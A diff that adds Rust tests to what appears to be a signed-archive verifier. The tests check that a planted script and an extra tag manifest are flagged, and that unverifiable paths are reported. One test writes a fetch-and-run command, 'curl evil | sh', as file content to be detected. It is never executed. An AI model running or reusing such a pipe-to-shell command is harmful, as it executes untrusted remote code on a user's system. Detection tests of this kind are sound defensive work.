@@ -30,6 +30,54 @@ fn signed(dir: &Path) -> (PathBuf, String) {
 }
 
 #[test]
+fn in_a_signed_bag_the_signed_manifest_alone_vouches() {
+    if !tools() {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let (_, allowed) = signed(dir.path());
+    let bag = dir.path().join("bag");
+    fs::write(bag.join("evil.sh"), "curl evil | sh").unwrap();
+    // By an algorithm that was not used, so that it is one more tag manifest and no change of the signed one.
+    let sha512 = std::process::Command::new("sha512sum")
+        .arg("evil.sh")
+        .current_dir(&bag)
+        .output()
+        .unwrap();
+    fs::write(bag.join("tagmanifest-sha512.txt"), sha512.stdout).unwrap();
+    let planted = [
+        ("unexpected", "evil.sh"),
+        ("unexpected", "tagmanifest-sha512.txt"),
+    ];
+    found(
+        dir.path(),
+        &["--allowed-signers", &allowed, "bag"],
+        &planted,
+    );
+    found(dir.path(), &["bag"], &planted);
+}
+
+#[test]
+fn a_path_that_cannot_be_verified_hides_no_other() {
+    let dir = tempfile::tempdir().unwrap();
+    let dir = dir.path();
+    make_bag(&dir.join("good"), &[("a", b"1")]);
+    make_bag(&dir.join("bad"), &[("a", b"1")]);
+    fs::write(dir.join("bad/data/a"), "2").unwrap();
+    fs::create_dir(dir.join("none")).unwrap();
+    fs::write(dir.join("none/x"), "").unwrap();
+    for (paths, code, stdout, stderr) in [
+        (&["bad", "nowhere", "good"][..], 1, "data/a", "nowhere"),
+        (&["nowhere", "good"], 8, "verified good", "nowhere"),
+        (&["bad", "none"], 2, "data/a", "none"),
+    ] {
+        let ran = verify(dir, paths).expect(code);
+        assert!(ran.stdout.contains(stdout), "{paths:?}: {ran:?}");
+        assert!(ran.stderr.contains(stderr), "{paths:?}: {ran:?}");
+    }
+}
+
+#[test]
 fn who_signed_is_checked_and_told() {
     if !tools() {
         return;
